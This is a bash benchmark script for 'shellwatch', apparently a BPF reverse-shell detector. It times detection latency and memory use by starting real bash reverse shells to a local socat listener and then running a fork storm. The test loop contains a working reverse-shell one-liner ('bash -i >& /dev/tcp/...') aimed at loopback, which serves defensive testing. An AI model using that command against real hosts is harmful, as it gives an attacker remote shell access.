#!/usr/bin/env bash
# bench_run.sh: `make bench-run`, figures for `shellwatch run` measured in one run (no pass/fail):
#   1. detection latency: N real bash reverse shells on loopback, one after the other; run's own
#      exec-to-alert-written latency (p50/p99/max, from its closing counts) and the detection rate;
#   2. memory under a fork storm: peak RSS (VmHWM) of run while STORM processes live at once,
#      against its RSS when idle, and the table counters (untracked, evicted, dropped).
# Environment: SHELLS (100), STORM (5000), RUN_PREFIX (a command run is started under, e.g.
# "nice -n -10" as the systemd unit does), RUN_ARGS (more options for run, e.g. --realtime).
# Needs root.
set -u
root=$(cd "$(dirname "$0")/.." && pwd)
bin=${SW_BUILD:-$root/build}/shellwatch
shells=${SHELLS:-100} storm=${STORM:-5000}
tmp=$(mktemp -d /tmp/shellwatch-bench-run.XXXXXX)
trap 'kill $(jobs -p) 2>/dev/null; wait 2>/dev/null; rm -rf "$tmp"' EXIT
[ "$(id -u)" = 0 ] || { echo "bench_run: needs root (BPF)" >&2; exit 1; }

wait_for() { # wait_for SECONDS CMD...
	local end=$((SECONDS + $1)); shift
	until "$@"; do [ "$SECONDS" -ge "$end" ] && return 1; sleep 0.02; done
}
ready() { grep -q '^shellwatch run: ready' "$tmp/run.err"; }
listening() { ss -Htln "sport = :$1" | grep -q .; }
rss_kb() { sed -nE "s/^$2:[[:space:]]+([0-9]+) kB/\1/p" "/proc/$1/status"; }

${RUN_PREFIX:-} "$bin" run --json -o "$tmp/alerts" ${RUN_ARGS:-} 2>"$tmp/run.err" &
run=$!
wait_for 20 ready || { echo "bench_run: run did not start: $(cat "$tmp/run.err")" >&2; exit 1; }
idle=$(rss_kb "$run" VmRSS)

port=$((30000 + RANDOM % 20000))
for i in $(seq "$shells"); do
	echo exit | socat -t 2 TCP-LISTEN:"$port",bind=127.0.0.1,reuseaddr STDIO >/dev/null 2>&1 &
	l=$!
	wait_for 5 listening "$port"
	bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null
	wait "$l"
done
wait_for 5 test "$(grep -cE '"destination":\{[^}]*"port":'"$port[,}]" "$tmp/alerts")" -ge "$shells"
detected=$(grep -cE '"destination":\{[^}]*"port":'"$port[,}]" "$tmp/alerts")

# Fork storm: STORM processes alive at once (each sleeps until the storm is over).
for i in $(seq "$storm"); do sleep 3 & done 2>/dev/null
peak=$(rss_kb "$run" VmHWM)
wait $(jobs -p | grep -v "^$run\$") 2>/dev/null
peak=$(rss_kb "$run" VmHWM)

kill -INT "$run"
wait "$run"
echo "shellwatch run bench: $shells reverse shells, then $storm processes alive at once"
echo "detection: $detected of $shells shells alerted"
sed -nE 's/.*(exec to alert [^;]*).*/latency (\1)/p' "$tmp/run.err"
echo "memory: RSS idle $idle KiB, peak (VmHWM) $peak KiB"
sed -nE 's/.*(processes [0-9]+ max, [0-9]+ untracked[^;]*); (engine [^;]*).*/tables: \1; \2/p' "$tmp/run.err"
sed -nE 's/^shellwatch run: ([0-9]+ events, [0-9]+ filtered in kernel, [0-9]+ dropped).*/events: \1/p' "$tmp/run.err"
